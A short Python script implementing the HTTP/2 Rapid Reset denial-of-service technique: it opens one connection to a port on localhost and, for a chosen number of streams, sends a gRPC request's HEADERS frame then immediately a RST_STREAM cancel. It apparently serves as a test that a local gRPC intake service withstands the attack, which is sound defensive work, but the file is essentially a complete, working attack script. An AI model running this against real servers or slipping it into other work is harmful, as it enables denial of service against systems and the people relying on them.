"""Opens one HTTP/2 connection and resets every stream that it opens.

usage: rapid_reset.py PORT STREAMS

What the other side does about it is for others to see.
"""

import socket
import struct
import sys


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def main():
    port, streams = int(sys.argv[1]), int(sys.argv[2])
    path = b"/jixiao.intake.v1.IntakeService/ListSubmissions"
    headers = (
        b"\x83\x86"  # :method POST, :scheme http
        + b"\x04" + bytes([len(path)]) + path
        + b"\x01\x09localhost"
        + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers")
    )
    connection = socket.create_connection(("127.0.0.1", port), timeout=10)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    try:
        for number in range(streams):
            stream = 2 * number + 1
            connection.sendall(frame(1, 4, stream, headers) + frame(3, 0, stream, struct.pack(">I", 8)))
    except OSError:
        pass  # hung up on, as it should be


if __name__ == "__main__":
    main()
